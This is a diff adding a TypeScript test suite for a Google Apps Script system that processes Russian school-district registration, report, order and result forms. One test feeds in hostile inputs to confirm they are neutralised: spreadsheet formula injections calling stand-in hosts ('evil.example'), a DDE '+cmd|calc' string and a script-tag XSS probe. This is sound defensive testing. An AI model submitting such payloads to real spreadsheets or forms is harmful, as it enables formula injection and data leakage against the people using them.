@@ -1,0 +1,278 @@
+/**
+ * Setup and intake through the real bundle on the emulator: idempotent setup, a small season,
+ * duplicate and edited deliveries, a held lock, an injected failure, hostile answers, and
+ * rebuildAll reproducing the incremental result exactly.
+ */
+import { setUpDistrict, registration } from './harness';
+
+const DERIVED = ['Участники', 'Приказы', 'Отчёты ОУ', 'Результаты', 'Требует проверки'];
+const REG = 'Регистрация участников';
+const REPORT = 'Ежемесячный отчёт ОУ';
+const ORDER = 'Приказы о направлении участников';
+const RESULTS = 'Результаты участия';
+
+type Ws = ReturnType<typeof setUpDistrict>['ws'];
+
+function snapshot(ws: Ws): Record<string, unknown[][]> {
+  return Object.fromEntries(DERIVED.map((tab) => [tab, ws.sheetValues(tab)]));
+}
+
+function column(ws: Ws, tab: string, header: string): unknown[] {
+  const [head = [], ...rows] = ws.sheetValues(tab);
+  const i = head.indexOf(header);
+  return rows.map((r) => r[i]);
+}
+
+function lastExecution(ws: Ws, name: string) {
+  const all = ws.costs().executions.filter((e) => e.functionName === name);
+  return all[all.length - 1]!;
+}
+
+function report(school: string, month: string): Record<string, string> {
+  return {
+    'Образовательное учреждение': school,
+    'Отчётный месяц': month,
+    'Проведено занятий по подготовке': '8',
+    'Обучающихся в подготовке': '24',
+    'Педагогов-наставников': '3',
+    'Контактное лицо': 'Сидорова Анна',
+  };
+}
+
+describe('setupSystem', () => {
+  test('a second run equals the first: no tab, form, item or trigger twice, nothing written', () => {
+    const { ws, app } = setUpDistrict();
+    const tabs = ws
+      .spreadsheet()
+      .getSheets()
+      .map((s) => s.getName());
+    const forms = ws.forms().map((f) => [f.title, f.items.map((i) => i.title)]);
+    const triggers = ws.triggers().map((t) => [t.handler, t.type]);
+    app.call('setupSystem');
+    const run = lastExecution(ws, 'setupSystem');
+    expect(
+      ws
+        .spreadsheet()
+        .getSheets()
+        .map((s) => s.getName()),
+    ).toEqual(tabs);
+    expect(ws.forms().map((f) => [f.title, f.items.map((i) => i.title)])).toEqual(forms);
+    expect(ws.triggers().map((t) => [t.handler, t.type])).toEqual(triggers);
+    expect(triggers.sort()).toEqual([
+      ['handleFormSubmit', 'ON_FORM_SUBMIT'],
+      ['runDailyJobs', 'CLOCK'],
+    ]);
+    for (const call of [
+      'Spreadsheet.insertSheet',
+      'FormApp.create',
+      'Range.setValues',
+      'Sheet.appendRow',
+    ]) {
+      expect({ call, n: run.calls[call] ?? 0 }).toEqual({ call, n: 0 });
+    }
+    expect(forms.map((f) => f[0])).toEqual(expect.arrayContaining([REG, REPORT, ORDER, RESULTS]));
+    expect(tabs).toEqual(
+      expect.arrayContaining([`Ответы: ${REG}`, 'ОУ', 'Настройки', 'Журнал', ...DERIVED]),
+    );
+  });
+
+  test('the order form gets the link fallback; the upload question is detected once added by hand', () => {
+    const { ws, app } = setUpDistrict();
+    const orderForm = ws.forms().find((f) => f.title === ORDER)!;
+    expect(orderForm.items.map((i) => i.title)).toContain('Ссылка на файл приказа');
+    expect(app.call('setupSystem').fileUploadPresent).toBe(false);
+    ws.uploadFileItem(ORDER, 'Файл приказа');
+    expect(app.call('setupSystem').fileUploadPresent).toBe(true);
+  });
+});
+
+describe('handleFormSubmit', () => {
+  test('a season: teams of one and two, a report, an order with a file, a result', () => {
+    const { ws, app } = setUpDistrict();
+    ws.uploadFileItem(ORDER, 'Файл приказа');
+    ws.submitForm(REG, registration());
+    ws.submitForm(
+      REG,
+      registration({
+        'Образовательное учреждение': 'ГБОУ СОШ № 51',
+        'Участник 1: фамилия': 'петров ',
+        'Участник 1: имя': 'иван',
+        'Участник 2: фамилия': 'Сидорова',
+        'Участник 2: имя': 'Алёна',
+        'Участник 2: класс / группа': '6 А',
+      }),
+    );
+    ws.submitForm(REPORT, report('ГБОУ СОШ № 47', 'сентябрь 2021'));
+    ws.submitForm(ORDER, {
+      'Образовательное учреждение': 'ГБОУ СОШ № 51',
+      'Номер приказа': '112-о',
+      'Дата приказа': '01.10.2021',
+      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
+      'Участники (Фамилия Имя, по одному в строке)': 'Петров Иван\nСидорова Алена',
+      'Файл приказа': ['prikaz-112.pdf'],
+    });
+    ws.submitForm(RESULTS, {
+      'Образовательное учреждение': 'ГБОУ СОШ № 47',
+      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
+      Компетенция: 'Мобильная робототехника',
+      'Участник (Фамилия Имя)': 'Иванова Мария',
+      Результат: 'Призёр (2 место)',
+      Баллы: '87,5',
+    });
+
+    expect(column(ws, 'Участники', 'Фамилия')).toEqual(['Иванова', 'Петров', 'Сидорова']);
+    expect(column(ws, 'Участники', 'ОУ')).toEqual(['ШКОЛА-47', 'ШКОЛА-51', 'ШКОЛА-51']);
+    expect(column(ws, 'Участники', 'Приказ')).toEqual(['нет', 'есть', 'есть']);
+    expect(column(ws, 'Участники', 'Результат')).toEqual(['Призёр (2 место)', '', '']);
+    const teams = column(ws, 'Участники', 'Команда');
+    expect(teams[1]).not.toBe('');
+    expect(teams[1]).toBe(teams[2]);
+    expect(column(ws, 'Отчёты ОУ', 'В срок')).toEqual(['да']);
+    expect(column(ws, 'Приказы', 'Сопоставлено')).toEqual([2]);
+    expect(column(ws, 'Результаты', 'Баллы')).toEqual([87.5]);
+    // The uploaded file now lives in the bank of orders, under the school's folder.
+    const file = ws.files().find((f) => f.name.startsWith('prikaz-112'))!;
+    expect(file.path).toContain('Банк приказов/ШКОЛА-51');
+  });
+
+  test('the same response delivered twice, and an edited response, change one record only', () => {
+    const { ws } = setUpDistrict();
+    const first = ws.submitForm(REG, registration());
+    const before = snapshot(ws);
+    ws.fireDuplicateLastSubmit();
+    expect(snapshot(ws)).toEqual(before);
+    ws.submitForm(REG, registration({ 'Участник 1: класс / группа': '6 «Б»' }), {
+      editOf: first.getId(),
+    });
+    expect(column(ws, 'Участники', 'Класс / группа')).toEqual(['6 «Б»']);
+    // A second registration of the same child for the same event and competency is one participant.
+    ws.submitForm(REG, registration({ 'Участник 1: фамилия': 'ИВАНОВА ' }));
+    expect(column(ws, 'Участники', 'Фамилия')).toEqual(['Иванова']);
+  });
+
+  test('a held lock or a failing service keeps the raw answer; the next rebuild catches up', () => {
+    const { ws, app } = setUpDistrict();
+    ws.lockHeldElsewhere(true);
+    ws.submitForm(REG, registration());
+    ws.lockHeldElsewhere(false);
+    expect(ws.sheetValues('Участники')).toHaveLength(1);
+    expect(ws.sheetValues(`Ответы: ${REG}`)).toHaveLength(2);
+    expect(column(ws, 'Журнал', 'Результат')).toContain('отложено');
+
+    ws.faults.fail('Range.setValues', {
+      times: 1,
+      error: 'Service Spreadsheets failed while accessing document',
+    });
+    ws.submitForm(
+      REG,
+      registration({ 'Участник 1: фамилия': 'Кузнецов', 'Участник 1: имя': 'Олег' }),
+    );
+    expect(column(ws, 'Журнал', 'Ошибка')).toContain(
+      'Service Spreadsheets failed while accessing document',
+    );
+
+    app.call('rebuildAll');
+    expect(column(ws, 'Участники', 'Фамилия').sort()).toEqual(['Иванова', 'Кузнецов']);
+  });
+
+  test('hostile answers: no formula anywhere, a clear queue entry for each problem', () => {
+    const { ws, app } = setUpDistrict();
+    const hostile = [
+      '=IMPORTXML("http://evil.example","//a")',
+      '+cmd|calc',
+      '@SUM(1+1)',
+      '-1+1',
+      '<script>alert(1)</script>',
+      'x'.repeat(50000),
+      '👩‍🔬 Ёлкина',
+      '   ',
+    ];
+    for (const text of hostile) {
+      ws.submitForm(REG, registration({ 'Участник 1: фамилия': text, 'Наставник: ФИО': text }));
+    }
+    ws.submitForm(ORDER, {
+      'Образовательное учреждение': 'ГБОУ СОШ № 47',
+      'Номер приказа': '=1+1',
+      'Дата приказа': '31.02.2021',
+      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
+      'Участники (Фамилия Имя, по одному в строке)': '=HYPERLINK("http://evil","x")',
+    });
+    ws.submitForm(ORDER, {
+      'Образовательное учреждение': 'ГБОУ СОШ № 47',
+      'Номер приказа': '15',
+      'Дата приказа': '01.01.2030',
+      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
+      'Участники (Фамилия Имя, по одному в строке)': 'Иванова Мария',
+    });
+    app.call('rebuildAll');
+    for (const sheet of ws.spreadsheet().getSheets()) {
+      const formulas = sheet
+        .getDataRange()
+        .getFormulas()
+        .flat()
+        .filter((f) => f !== '');
+      expect({ tab: sheet.getName(), formulas }).toEqual({ tab: sheet.getName(), formulas: [] });
+    }
+    const problems = column(ws, 'Требует проверки', 'Проблема').map(String);
+    const fields = column(ws, 'Требует проверки', 'Поле').map(String);
+    expect(fields).toEqual(expect.arrayContaining(['Участник 1: фамилия', 'Дата приказа']));
+    expect(problems.some((p) => p.includes('31.02.2021'))).toBe(true);
+    expect(problems.some((p) => p.includes('01.01.2030'))).toBe(true);
+    expect(problems.every((p) => p.length > 20)).toBe(true);
+    // The raw answers are kept as typed (the response sheet is Google's, never edited).
+    expect(ws.sheetValues(`Ответы: ${REG}`).length).toBe(hostile.length + 1);
+  });
+
+  test('an unknown ОУ goes to the queue with candidates; rebuildAll reproduces intake exactly', () => {
+    const { ws, app } = setUpDistrict();
+    ws.submitForm(REG, registration());
+    ws.submitForm(
+      REG,
+      registration({ 'Участник 1: фамилия': 'Смирнов', 'Участник 1: имя': 'Олег' }),
+    );
+    ws.submitForm(REPORT, report('ГБДОУ № 21', 'сентябрь 2021'));
+    const incremental = snapshot(ws);
+    const sheet = ws.spreadsheet().getSheetByName('Участники')!;
+    sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn()).clearContent();
+    app.call('rebuildAll');
+    expect(snapshot(ws)).toEqual(incremental);
+
+    // Staff renumber school 47 in the registry: its answers no longer place and are queued.
+    const registry = ws.spreadsheet().getSheetByName('ОУ')!;
+    registry
+      .getRange(2, 1, 1, 5)
+      .setValues([['ШКОЛА-74', 'школа', '74', 'ГБОУ СОШ № 74', 'ГБОУ СОШ № 74']]);
+    app.call('rebuildAll');
+    expect(column(ws, 'Участники', 'ОУ')).toEqual([]);
+    const fields = column(ws, 'Требует проверки', 'Поле');
+    expect(fields.filter((f) => f === 'Образовательное учреждение')).toHaveLength(2);
+    const suggestions = column(ws, 'Требует проверки', 'Что сделать').map(String);
+    expect(suggestions.filter((t) => t.includes('ГБОУ СОШ № 74'))).toHaveLength(2);
+    expect(ws.sheetValues(`Ответы: ${REG}`)).toHaveLength(3);
+  });
+
+  test('a submit costs the same bounded number of service calls however large the tabs are', () => {
+    const { ws } = setUpDistrict();
+    ws.submitForm(REG, registration());
+    const small = Object.values(lastExecution(ws, 'handleFormSubmit').calls).reduce(
+      (a, b) => a + b,
+      0,
+    );
+    for (let i = 0; i < 40; i++) {
+      ws.submitForm(
+        REG,
+        registration({
+          'Участник 1: фамилия': `Иванов${'а'.repeat(i % 5)}`,
+          'Участник 1: имя': `Имя${i}`,
+        }),
+      );
+    }
+    const large = Object.values(lastExecution(ws, 'handleFormSubmit').calls).reduce(
+      (a, b) => a + b,
+      0,
+    );
+    // The count depends only on which tabs changed, never on how many rows they hold.
+    expect(Math.abs(large - small)).toBeLessThanOrEqual(4);
+    expect(large).toBeLessThanOrEqual(60);
+  });
+});
